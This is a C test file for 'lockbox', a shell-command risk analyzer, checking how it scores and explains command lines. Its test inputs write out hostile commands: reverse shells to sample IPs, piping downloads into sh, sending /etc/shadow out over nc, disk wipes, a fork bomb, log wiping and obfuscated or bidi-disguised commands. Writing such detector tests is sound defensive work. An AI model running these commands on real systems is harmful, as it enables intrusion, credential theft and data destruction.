/* test_analyze.c — the lockbox analyzer end to end on real command lines, against the
 * small rule set in tests/fixtures/rules: risk, categories, findings and their spans,
 * explanations, wrappers and nested shells, cross-command patterns, deceptive text,
 * and that the JSON is always valid. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "lockbox/lockbox.h"
#include "util/err.h"

#include "lb_fixture.h"

static int
has_program(res *x, const char *p)
{
	json_t *a = json_object_get(x->j, "commands");
	size_t i;
	json_t *v;
	json_array_foreach(a, i, v)
		if (!strcmp(json_string_value(json_object_get(v, "program")), p))
			return 1;
	return 0;
}

static const char *
explanation(res *x)
{
	return json_string_value(json_object_get(x->j, "explanation"));
}

static int
opaque(res *x)
{
	return json_is_true(json_object_get(x->j, "opaque"));
}

static void
assert_span(json_t *obj, unsigned s, unsigned e)
{
	assert_non_null(obj);
	json_t *sp = json_object_get(obj, "span");
	assert_int_equal(json_integer_value(json_array_get(sp, 0)), s);
	assert_int_equal(json_integer_value(json_array_get(sp, 1)), e);
}

/* ---- tests ---------------------------------------------------------------------------- */

static void
test_rm_var_log(void **state)
{
	(void)state;
	res x;
	run(&x, "rm -rf /var/log");
	assert_string_equal(risk(&x), "high");
	assert_true(has_cat(&x, "file-delete"));
	assert_true(has_cat(&x, "log-tamper"));
	assert_non_null(strstr(explanation(&x), "Deletes /var/log"));
	assert_non_null(strstr(explanation(&x), "audit trail"));
	/* the finding points at the path */
	assert_span(finding(&x, "sensitive-path"), 7, 15);
	json_t *attack = json_object_get(x.j, "attack");
	assert_true(json_array_size(attack) >= 1);
	done(&x);
}

static void
test_curl_pipe_sh(void **state)
{
	(void)state;
	res x;
	run(&x, "curl -fsSL https://get.example.com/install.sh | sh");
	assert_string_equal(risk(&x), "critical");
	assert_true(has_cat(&x, "network-download"));
	assert_true(has_cat(&x, "code-exec"));
	assert_true(opaque(&x));
	assert_non_null(finding(&x, "download-exec"));
	assert_non_null(strstr(explanation(&x), "https://get.example.com/install.sh"));
	assert_true(lockbox_result_score(x.r) >= 90);
	done(&x);
	/* wget to stdout, and a process substitution, are the same thing */
	run(&x, "wget -qO- http://x.example/i | bash");
	assert_string_equal(risk(&x), "critical");
	done(&x);
	run(&x, "bash <(curl -s http://x.example/i)");
	assert_string_equal(risk(&x), "critical");
	done(&x);
	/* but downloading to a file is not running it */
	run(&x, "curl -o /tmp/i.sh https://x.example/i.sh");
	assert_string_not_equal(risk(&x), "critical");
	assert_true(has_cat(&x, "network-download"));
	done(&x);
}

static void
test_sudo_wrapper(void **state)
{
	(void)state;
	res x;
	run(&x, "sudo rm -rf /");
	assert_string_equal(risk(&x), "critical");
	assert_true(has_cat(&x, "privilege-escalation"));
	assert_true(has_cat(&x, "destructive"));
	assert_true(has_program(&x, "sudo"));
	assert_true(has_program(&x, "rm"));
	assert_non_null(finding(&x, "rm-system"));
	done(&x);
	/* options with arguments are skipped, the inner command is found */
	run(&x, "sudo -u bob -g staff cat /etc/shadow");
	assert_true(has_program(&x, "cat"));
	assert_string_equal(risk(&x), "high");
	assert_true(has_cat(&x, "credential-access"));
	done(&x);
	run(&x, "sudo -i");
	assert_string_equal(risk(&x), "high");
	assert_true(has_cat(&x, "privilege-escalation"));
	done(&x);
	/* other wrappers: nice, timeout with its duration, env with assignments */
	run(&x, "nice -n 5 timeout 10 env A=1 rm -rf /etc");
	assert_true(has_program(&x, "rm"));
	assert_string_equal(risk(&x), "critical");
	done(&x);
}

static void
test_find_exec(void **state)
{
	(void)state;
	res x;
	run(&x, "find / -name '*.log' -exec rm {} \\;");
	assert_true(has_program(&x, "find"));
	assert_true(has_program(&x, "rm"));
	assert_true(has_cat(&x, "file-delete"));
	assert_non_null(strstr(explanation(&x), "each file found"));
	done(&x);
	run(&x, "find /var/log -type f -delete");
	assert_true(has_cat(&x, "file-delete"));
	assert_true(has_cat(&x, "log-tamper"));
	done(&x);
	/* a shell run by find -exec is a shell */
	run(&x, "find . -exec /bin/sh \\; -quit");
	assert_string_equal(risk(&x), "high");
	assert_true(has_cat(&x, "shell-escape"));
	done(&x);
}

static void
test_sh_c_nested(void **state)
{
	(void)state;
	res x;
	const char *src = "sh -c 'cat /etc/shadow'";
	run(&x, src);
	assert_string_equal(risk(&x), "high");
	assert_true(has_cat(&x, "credential-access"));
	assert_true(has_program(&x, "cat"));
	/* the nested span maps into the quoted string exactly */
	json_t *f = finding(&x, "sensitive-path");
	assert_span(f, 11, 22);
	assert_memory_equal(src + 11, "/etc/shadow", 11);
	done(&x);
	run(&x, "eval 'rm -rf /'");
	assert_string_equal(risk(&x), "critical");
	done(&x);
	run(&x, "bash <<'EOF'\nrm -rf /etc\nEOF\n");
	assert_string_equal(risk(&x), "critical");
	done(&x);
	run(&x, "echo 'rm -rf /' | at now");
	assert_string_equal(risk(&x), "critical");
	assert_true(has_cat(&x, "persistence"));
	done(&x);
	/* command substitutions run too */
	run(&x, "echo $(cat /etc/shadow)");
	assert_true(has_cat(&x, "credential-access"));
	done(&x);
}

static void
test_tar_sed_modes(void **state)
{
	(void)state;
	res x;
	run(&x, "tar xzf backup.tar.gz -C /etc");
	assert_true(has_cat(&x, "file-write"));
	assert_true(has_cat(&x, "config-change"));
	assert_non_null(strstr(explanation(&x), "Extracts"));
	done(&x);
	run(&x, "tar tf backup.tar");
	assert_false(has_cat(&x, "file-write"));
	assert_non_null(strstr(explanation(&x), "Lists"));
	assert_true(lockbox_result_risk(x.r) <= LOCKBOX_RISK_LOW);
	done(&x);
	run(&x, "sed -i 's/a/b/' /etc/hosts");
	assert_true(has_cat(&x, "file-write"));
	assert_string_equal(risk(&x), "medium");
	done(&x);
	run(&x, "sed 's/a/b/' /etc/hosts");
	assert_false(has_cat(&x, "file-write"));
	assert_string_equal(risk(&x), "none");
	done(&x);
	run(&x, "sed -n '1e id' /etc/hosts");
	assert_non_null(finding(&x, "sed-exec"));
	done(&x);
}

static void
test_chmod_setuid(void **state)
{
	(void)state;
	res x;
	run(&x, "chmod u+s /bin/bash");
	assert_string_equal(risk(&x), "high");
	assert_true(has_cat(&x, "privilege-escalation"));
	assert_non_null(finding(&x, "setuid-bit"));
	done(&x);
	run(&x, "chmod 4755 /tmp/x");
	assert_non_null(finding(&x, "setuid-bit"));
	done(&x);
	run(&x, "chmod 755 /tmp/x");
	assert_null(finding(&x, "setuid-bit"));
	assert_false(has_cat(&x, "privilege-escalation"));
	done(&x);
	run(&x, "chmod o-s,g+s /tmp/x");
	assert_non_null(finding(&x, "setuid-bit"));
	done(&x);
}

static void
test_shells_and_network(void **state)
{
	(void)state;
	res x;
	run(&x, "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1");
	assert_string_equal(risk(&x), "critical");
	assert_true(has_cat(&x, "reverse-shell"));
	assert_non_null(strstr(explanation(&x), "198.51.100.7:4444"));
	done(&x);
	run(&x, "nc -e /bin/sh 10.0.0.1 4444");
	assert_string_equal(risk(&x), "critical");
	assert_true(has_cat(&x, "reverse-shell"));
	done(&x);
	run(&x, "nc -lvp 4444 -e /bin/bash");
	assert_true(has_cat(&x, "bind-shell"));
	done(&x);
	run(&x, "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4242));"
	    "os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'");
	assert_string_equal(risk(&x), "critical");
	assert_true(has_cat(&x, "reverse-shell"));
	done(&x);
	run(&x, "socat tcp:10.0.0.1:4444 exec:/bin/sh");
	assert_string_equal(risk(&x), "critical");
	done(&x);
	run(&x, "ssh admin@db1 'rm -rf /var/log'");
	assert_true(has_cat(&x, "remote-exec"));
	assert_true(has_cat(&x, "log-tamper"));
	assert_non_null(strstr(explanation(&x), "On the remote host"));
	done(&x);
	run(&x, "cat /etc/shadow | nc 10.0.0.1 80");
	assert_true(has_cat(&x, "network-upload"));
	assert_true(lockbox_result_risk(x.r) >= LOCKBOX_RISK_HIGH);
	done(&x);
}

static void
test_patterns(void **state)
{
	(void)state;
	res x;
	run(&x, ":(){ :|:& };:");
	assert_string_equal(risk(&x), "critical");
	assert_non_null(finding(&x, "fork-bomb"));
	done(&x);
	run(&x, "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys");
	assert_string_equal(risk(&x), "high");
	assert_true(has_cat(&x, "persistence"));
	done(&x);
	run(&x, "history -c");
	assert_true(has_cat(&x, "log-tamper"));
	done(&x);
	run(&x, "unset HISTFILE; export HISTSIZE=0");
	assert_true(has_cat(&x, "log-tamper"));
	assert_string_equal(risk(&x), "high");
	done(&x);
	run(&x, "LD_PRELOAD=/tmp/x.so ls");
	assert_string_equal(risk(&x), "high");
	assert_non_null(finding(&x, "ld-preload"));
	done(&x);
	run(&x, "dd if=/dev/zero of=/dev/sda bs=1M");
	assert_string_equal(risk(&x), "critical");
	assert_true(has_cat(&x, "destructive"));
	done(&x);
	run(&x, "cat /dev/urandom > /dev/sda");
	assert_string_equal(risk(&x), "critical");
	done(&x);
	run(&x, "mkfs.ext4 /dev/sdb1");
	assert_string_equal(risk(&x), "critical");
	done(&x);
	run(&x, "kill -9 1");
	assert_string_equal(risk(&x), "critical");
	done(&x);
	run(&x, "systemctl stop auditd");
	assert_true(has_cat(&x, "security-disable"));
	assert_string_equal(risk(&x), "high");
	done(&x);
	/* base64 is decoded so the hidden command is analyzed */
	run(&x, "echo cm0gLXJmIC8K | base64 -d | sh");
	assert_string_equal(risk(&x), "critical");
	assert_true(has_cat(&x, "obfuscation"));
	assert_non_null(finding(&x, "decoded-exec"));
	done(&x);
	/* substitutions inside [[ ]] and (( )) run */
	run(&x, "[[ -n $(rm -rf /etc) ]]");
	assert_string_equal(risk(&x), "critical");
	done(&x);
	run(&x, "(( $(rm -rf /etc) ))");
	assert_string_equal(risk(&x), "critical");
	done(&x);
	run(&x, "shred -u /var/log/auth.log");
	assert_true(has_cat(&x, "destructive"));
	done(&x);
}

static void
test_benign(void **state)
{
	(void)state;
	res x;
	run(&x, "ls -la /tmp");
	assert_string_equal(risk(&x), "none");
	assert_true(lockbox_result_score(x.r) < 10);
	assert_int_equal(json_array_size(json_object_get(x.j, "findings")), 0);
	assert_false(opaque(&x));
	done(&x);
	run(&x, "grep -r needle /etc/nginx");
	assert_string_equal(risk(&x), "none");
	done(&x);
	run(&x, "systemctl status nginx");
	assert_string_equal(risk(&x), "none");
	done(&x);
	run(&x, "cat /tmp/a /tmp/b > /tmp/c");
	assert_string_equal(risk(&x), "low");
	done(&x);
}

static void
test_opaque_and_errors(void **state)
{
	(void)state;
	res x;
	run(&x, "$(echo rm) -rf /");
	assert_true(opaque(&x));
	assert_non_null(finding(&x, "dynamic-command"));
	assert_true(lockbox_result_risk(x.r) >= LOCKBOX_RISK_MEDIUM);
	done(&x);
	run(&x, "echo (");
	assert_non_null(finding(&x, "parse-error"));
	assert_true(opaque(&x));
	assert_true(lockbox_result_risk(x.r) >= LOCKBOX_RISK_MEDIUM);
	done(&x);
	static const char nul[] = "ls\0rm -rf /";
	run_n(&x, nul, sizeof nul - 1);
	assert_non_null(finding(&x, "nul-byte"));
	assert_true(opaque(&x));
	/* the input survives into JSON, NUL escaped */
	assert_non_null(strstr(buf_cstr(&x.json), "ls\\u0000rm"));
	done(&x);
	/* deep nesting is reported, not followed forever */
	char deep[2048];
	size_t o = 0;
	for (int i = 0; i < 40; i++)
		o += (size_t)snprintf(deep + o, sizeof deep - o, "eval ");
	snprintf(deep + o, sizeof deep - o, "ls");
	run(&x, deep);
	assert_non_null(finding(&x, "depth-exceeded"));
	assert_true(opaque(&x));
	done(&x);
	/* padding with hundreds of words does not hide the last one */
	char pad[8192];
	size_t po = (size_t)snprintf(pad, sizeof pad, "rm");
	for (int i = 0; i < 600; i++)
		po += (size_t)snprintf(pad + po, sizeof pad - po, " a");
	snprintf(pad + po, sizeof pad - po, " /etc/shadow");
	run(&x, pad);
	assert_string_equal(risk(&x), "critical");
	assert_non_null(finding(&x, "sensitive-path"));
	done(&x);
	/* shells lockbox does not know are refused */
	lockbox_result *r = NULL;
	assert_int_equal(lockbox_analyze(lb, "ls", 2, "fish", &r), ESC_EINVAL);
	assert_null(r);
}

static void
test_deceptive_text(void **state)
{
	(void)state;
	res x;
	/* U+202E RIGHT-TO-LEFT OVERRIDE hides the real order of the text */
	const char *bidi = "ls \xE2\x80\xAE txt.exe";
	run(&x, bidi);
	assert_string_equal(risk(&x), "critical");
	assert_true(has_cat(&x, "display-deception"));
	json_t *f = finding(&x, "bidi-control");
	assert_span(f, 3, 6);
	/* escaped in JSON and in the rendering */
	assert_non_null(strstr(buf_cstr(&x.json), "\\u202e"));
	buf out = BUF_INIT;
	assert_int_equal(lockbox_result_render(x.r, &out, 0), 0);
	assert_non_null(strstr(buf_cstr(&out), "\\u{202E}"));
	assert_null(strstr(buf_cstr(&out), "\xE2\x80\xAE"));
	buf_free(&out);
	done(&x);
	run(&x, "rm\xE2\x80\x8B -rf /tmp/x");
	assert_non_null(finding(&x, "zero-width"));
	done(&x);
	/* invalid UTF-8 never reaches the JSON; it is flagged */
	run(&x, "echo \xff\xfe hi");
	assert_non_null(finding(&x, "invalid-utf8"));
	assert_non_null(strstr(buf_cstr(&x.json), "\xEF\xBF\xBD"));
	done(&x);
	run(&x, "echo ok\rrm -rf /");
	assert_non_null(finding(&x, "carriage-return"));
	done(&x);
	/* every display trick is critical; a Windows line ending alone is not a trick */
	static const char *const tricks[] = {
		"echo \x1b[2Kls", "ls\x07 x", "ls /tmp/\xf3\xa0\x80\xa1", "\xd1\x81" "at /etc/hosts",
		"ls x\rrm y", NULL,
	};
	for (const char *const *t = tricks; *t; t++) {
		run(&x, *t);
		assert_string_equal(risk(&x), "critical");
		assert_true(has_cat(&x, "display-deception"));
		done(&x);
	}
	char blanks[256];
	snprintf(blanks, sizeof blanks, "ls%100s; rm -f x", "");
	run(&x, blanks);
	assert_non_null(finding(&x, "whitespace-run"));
	done(&x);
	run(&x, "ls /tmp\r\n");
	assert_false(has_cat(&x, "display-deception") && !strcmp(risk(&x), "critical"));
	done(&x);
	/* Cyrillic text alone is text, not a look-alike */
	run(&x, "echo '\xd0\x9f\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82'");
	assert_false(has_cat(&x, "display-deception"));
	done(&x);
}

static void
test_spans_and_json_shape(void **state)
{
	(void)state;
	res x;
	run(&x, "ls; rm -rf /var/log");
	json_t *cmds = json_object_get(x.j, "commands");
	assert_int_equal(json_array_size(cmds), 2);
	assert_span(json_array_get(cmds, 0), 0, 2);
	assert_span(json_array_get(cmds, 1), 4, 19);
	json_t *c1 = json_array_get(cmds, 1);
	json_t *argv = json_object_get(c1, "argv");
	assert_int_equal(json_array_size(argv), 3);
	assert_string_equal(json_string_value(json_array_get(argv, 2)), "/var/log");
	json_t *fx = json_array_get(json_object_get(c1, "effects"), 0);
	assert_string_equal(json_string_value(json_object_get(fx, "type")), "file-delete");
	assert_string_equal(json_string_value(json_object_get(fx, "target")), "/var/log");
	/* key order is the contract's */
	assert_true(strncmp(buf_cstr(&x.json), "{\"input\":", 9) == 0);
	const char *keys[] = { "\"input\"", "\"shell\"", "\"risk\"", "\"score\"", "\"categories\"",
		"\"attack\"", "\"opaque\"", "\"explanation\"", "\"commands\"", "\"findings\"" };
	const char *prev = buf_cstr(&x.json);
	for (size_t i = 0; i < sizeof keys / sizeof keys[0]; i++) {
		const char *p = strstr(prev, keys[i]);
		assert_non_null(p);
		prev = p;
	}
	done(&x);
	/* score bands agree with the risk */
	const char *samples[] = { "ls", "rm /tmp/x", "sed -i s/a/b/ /etc/hosts", "rm -rf /var/log",
		"rm -rf /" };
	static const int lo[] = { 0, 10, 40, 70, 90 }, hi[] = { 9, 39, 69, 89, 100 };
	for (size_t i = 0; i < 5; i++) {
		run(&x, samples[i]);
		int r = (int)lockbox_result_risk(x.r), s = lockbox_result_score(x.r);
		assert_true(s >= lo[r] && s <= hi[r]);
		assert_int_equal(r, (int)i);
		done(&x);
	}
}

static void
test_render(void **state)
{
	(void)state;
	res x;
	run(&x, "ls\nrm -rf /var/log");
	buf out = BUF_INIT;
	assert_int_equal(lockbox_result_render(x.r, &out, 0), 0);
	const char *s = buf_cstr(&out);
	assert_non_null(strstr(s, "risk: high"));
	/* the second line is underlined under the path (column 7 after the indent) */
	assert_non_null(strstr(s, "  rm -rf /var/log\n         ^~~~~~~~\n"));
	assert_non_null(strstr(s, "explanation:"));
	assert_non_null(strstr(s, "findings:"));
	assert_non_null(strstr(s, "file-delete"));
	buf_free(&out);
	done(&x);
}

static int
count_str(const char *s, const char *needle)
{
	int n = 0;
	for (const char *p = strstr(s, needle); p; p = strstr(p + 1, needle))
		n++;
	return n;
}

/* {arg} in an option's phrase is that option's argument, not the last one on the line;
 * risky-option messages are filled in too. */
static void
test_option_arg_template(void **state)
{
	(void)state;
	res x;
	run(&x, "mysql -u root -e 'DROP DATABASE prod'");
	assert_non_null(strstr(explanation(&x), "as root"));
	assert_non_null(strstr(explanation(&x), "running the SQL DROP DATABASE prod"));
	assert_null(strstr(explanation(&x), "as DROP"));
	json_t *f = finding(&x, "risky-option");
	assert_non_null(f);
	const char *m = json_string_value(json_object_get(f, "message"));
	assert_non_null(strstr(m, "DROP DATABASE prod"));
	assert_null(strstr(m, "{arg}"));
	done(&x);
}

/* readonly options cap the program's risk and drop its categories; a dry run does not
 * do what the other options would. */
static void
test_readonly_option(void **state)
{
	(void)state;
	res x;
	run(&x, "crontab -l");
	assert_string_equal(risk(&x), "low");
	assert_false(has_cat(&x, "persistence"));
	done(&x);
	run(&x, "crontab -e");
	assert_string_equal(risk(&x), "high");
	assert_true(has_cat(&x, "persistence"));
	done(&x);
	run(&x, "fdisk -l");
	assert_string_equal(risk(&x), "low");
	assert_false(has_cat(&x, "config-change"));
	done(&x);
	run(&x, "wipefs -n -a /dev/sda");
	assert_string_equal(risk(&x), "low");
	assert_false(has_cat(&x, "destructive"));
	assert_null(strstr(explanation(&x), "erases"));
	done(&x);
	run(&x, "wipefs -a /dev/sda");
	assert_string_equal(risk(&x), "critical");
	done(&x);
}

/* A cluster of known short options is split even when the program also has
 * single-dash long options; an unknown word is still one option. */
static void
test_cluster_with_sdlong(void **state)
{
	(void)state;
	res x;
	run(&x, "screen -dmS x rm /etc/shadow");
	assert_true(has_program(&x, "rm"));
	assert_false(has_program(&x, "x"));
	assert_string_equal(risk(&x), "critical");
	assert_non_null(strstr(explanation(&x), "named x"));
	done(&x);
	/* only the last letter may take an argument: -Sdm is one unknown option, not
	 * -S with the name "dm" */
	run(&x, "screen -Sdm ls");
	assert_null(strstr(explanation(&x), "named"));
	done(&x);
}

/* What runs: env -, sudo -e FILE, programs at paths outside the system directories,
 * test operands, runuser -u USER -- CMD. */
static void
test_what_runs(void **state)
{
	(void)state;
	res x;
	run(&x, "env - ls");
	assert_true(has_program(&x, "ls"));
	assert_false(has_program(&x, "-"));
	done(&x);
	run(&x, "sudo -e /etc/shadow");
	assert_true(has_program(&x, "sudoedit"));
	assert_false(has_program(&x, "shadow"));
	assert_null(finding(&x, "local-program"));
	assert_true(has_cat(&x, "file-write"));
	assert_non_null(strstr(explanation(&x), "Edits /etc/shadow"));
	done(&x);
	run(&x, "/tmp/script out.log");
	assert_non_null(finding(&x, "local-program"));
	assert_true(has_cat(&x, "code-exec"));
	assert_false(has_cat(&x, "file-write")); /* not util-linux script */
	assert_non_null(strstr(explanation(&x), "program or script at /tmp/script"));
	done(&x);
	run(&x, "/usr/bin/script out.log");
	assert_true(has_cat(&x, "file-write"));
	assert_null(finding(&x, "local-program"));
	done(&x);
	run(&x, "test \"$X\" = /bin/zsh");
	assert_string_equal(risk(&x), "none");
	assert_false(has_cat(&x, "shell-escape"));
	done(&x);
	run(&x, "[ \"$SHELL\" = /bin/bash ]");
	assert_string_equal(risk(&x), "none");
	assert_null(strstr(explanation(&x), "]"));
	done(&x);
	/* under sudo, each sentence of the inner command says who runs it; sudo itself
	 * adds no "runs the given command" sentence */
	run(&x, "sudo -u bob rm /etc/shadow");
	assert_non_null(strstr(explanation(&x), "As the user bob: Deletes /etc/shadow"));
	assert_null(strstr(explanation(&x), "Runs a command as root"));
	done(&x);
	run(&x, "sudo -i");
	assert_int_equal(count_str(explanation(&x), "root"), 1);
	done(&x);
	run(&x, "runuser -u bob -- rm -rf /etc");
	assert_true(has_program(&x, "rm"));
	assert_non_null(strstr(explanation(&x), "As the user bob: "));
	assert_null(strstr(explanation(&x), "user rm"));
	done(&x);
}

static void
test_service_security(void **state)
{
	(void)state;
	res x;
	run(&x, "service auditd stop");
	assert_true(has_cat(&x, "security-disable"));
	assert_string_equal(risk(&x), "high");
	done(&x);
	run(&x, "service nginx stop");
	assert_false(has_cat(&x, "security-disable"));
	done(&x);
}

/* One sentence per command, the most specific one; no made-up "the given files";
 * inline code shown shortened. */
static void
test_explanation_quality(void **state)
{
	(void)state;
	res x;
	run(&x, "dd if=/dev/zero of=/dev/sda");
	assert_string_equal(explanation(&x),
	    "Overwrites the disk /dev/sda directly: everything on it is lost.");
	done(&x);
	run(&x, "rm -rf /");
	assert_int_equal(count_str(explanation(&x), "Deletes"), 1);
	done(&x);
	run(&x, "python3 -c 'import os; os.system(\"id\")'");
	assert_int_equal(count_str(explanation(&x), "Runs python3 code"), 1);
	assert_non_null(strstr(explanation(&x), "starts a shell"));
	assert_non_null(strstr(explanation(&x), "import os;"));
	done(&x);
	run(&x, "python3 -c 'print(1)\n\n    print(2)  # aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'");
	assert_non_null(strstr(explanation(&x), "\"print(1) print(2) # aaa"));
	assert_non_null(strstr(explanation(&x), "...\""));
	done(&x);
	run(&x, "fdisk -l");
	assert_string_equal(explanation(&x), "Opens the partition table (list only).");
	done(&x);
	run(&x, "screen -dm");
	assert_null(strstr(explanation(&x), "given files"));
	done(&x);
	run(&x, "echo hi | wipefs");
	assert_non_null(strstr(explanation(&x), "signatures on its input"));
	done(&x);
}

/* A huge record is cut to what can be analyzed within bounded memory, said so, and the
 * command list is capped; the JSON stays valid. */
static void
test_huge_record(void **state)
{
	(void)state;
	size_t n = 200000;
	char *s = malloc(2 * n);
	assert_non_null(s);
	for (size_t i = 0; i < n; i++) {
		s[2 * i] = 'a';
		s[2 * i + 1] = '|';
	}
	res x;
	run_n(&x, s, 2 * n - 1);
	assert_non_null(finding(&x, "too-large"));
	assert_non_null(finding(&x, "many-commands"));
	assert_true(opaque(&x));
	assert_true(json_array_size(json_object_get(x.j, "commands")) <= 1000);
	/* the input is echoed whole */
	assert_int_equal(strlen(json_string_value(json_object_get(x.j, "input"))), 2 * n - 1);
	done(&x);
	free(s);
}

/* The JSON writer's 8-byte fast path: every escape class at every offset and length
 * round-trips through a JSON parser. */
static void
test_json_escaping(void **state)
{
	(void)state;
	static const char *const specials[] = { "\"", "\\", "\n", "\x01", "\x7f", "\xc3\xa9",
		"\xe2\x80\xae", "\xff", "\t", NULL };
	char src[64];
	for (const char *const *sp = specials; *sp; sp++)
		for (size_t len = 0; len < 20; len++)
			for (size_t at = 0; at <= len; at++) {
				size_t o = 0;
				for (size_t i = 0; i < len; i++) {
					if (i == at) {
						memcpy(src + o, *sp, strlen(*sp));
						o += strlen(*sp);
					}
					src[o++] = (char)('a' + i % 26);
				}
				if (at == len) {
					memcpy(src + o, *sp, strlen(*sp));
					o += strlen(*sp);
				}
				res x;
				run_n(&x, src, o);
				const char *in = json_string_value(json_object_get(x.j, "input"));
				assert_non_null(in);
				if (**sp == '\xff') {
					assert_non_null(strstr(in, "\xef\xbf\xbd"));
				} else {
					assert_int_equal(strlen(in), o);
					assert_memory_equal(in, src, o);
				}
				done(&x);
			}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rm_var_log),
		cmocka_unit_test(test_curl_pipe_sh),
		cmocka_unit_test(test_sudo_wrapper),
		cmocka_unit_test(test_find_exec),
		cmocka_unit_test(test_sh_c_nested),
		cmocka_unit_test(test_tar_sed_modes),
		cmocka_unit_test(test_chmod_setuid),
		cmocka_unit_test(test_shells_and_network),
		cmocka_unit_test(test_patterns),
		cmocka_unit_test(test_benign),
		cmocka_unit_test(test_opaque_and_errors),
		cmocka_unit_test(test_deceptive_text),
		cmocka_unit_test(test_spans_and_json_shape),
		cmocka_unit_test(test_render),
		cmocka_unit_test(test_option_arg_template),
		cmocka_unit_test(test_readonly_option),
		cmocka_unit_test(test_cluster_with_sdlong),
		cmocka_unit_test(test_what_runs),
		cmocka_unit_test(test_service_security),
		cmocka_unit_test(test_explanation_quality),
		cmocka_unit_test(test_huge_record),
		cmocka_unit_test(test_json_escaping),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
